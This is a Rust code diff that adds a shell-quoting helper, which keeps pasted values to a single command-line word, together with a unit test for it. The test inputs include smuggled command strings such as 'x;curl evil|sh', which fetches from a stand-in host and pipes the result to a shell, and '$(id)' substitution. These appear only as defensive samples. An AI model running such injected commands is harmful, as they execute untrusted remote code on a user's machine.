@@ -33,6 +33,16 @@ pub fn printable(text: &str) -> String {
         .collect()
 }
 
+/// `text` as one word of a shell's command line: what is printed to be pasted may have been written by
+/// whoever wants it to be pasted.
+pub(crate) fn quoted(text: &str) -> String {
+    let plain = |byte: u8| byte.is_ascii_alphanumeric() || b"_@%+=:,./-".contains(&byte);
+    if !text.is_empty() && text.bytes().all(plain) {
+        return text.to_owned();
+    }
+    format!("'{}'", text.replace('\'', r"'\''"))
+}
+
 fn is_unprintable(c: char) -> bool {
     c.is_control()
         || matches!(
@@ -55,6 +65,17 @@ mod tests {
             printable("a\n::error::\u{1b}[31m\u{202e}é"),
             "a\\n::error::\\u{1b}[31m\\u{202e}é"
         );
+    }
+
+    #[test]
+    fn what_is_pasted_is_one_word() {
+        assert_eq!(
+            quoted("arn:aws:iam::1:role/a_b@c"),
+            "arn:aws:iam::1:role/a_b@c"
+        );
+        assert_eq!(quoted("x;curl evil|sh"), "'x;curl evil|sh'");
+        assert_eq!(quoted("$(id)'`"), r"'$(id)'\''`'");
+        assert_eq!(quoted(""), "''");
     }
 
     #[test]
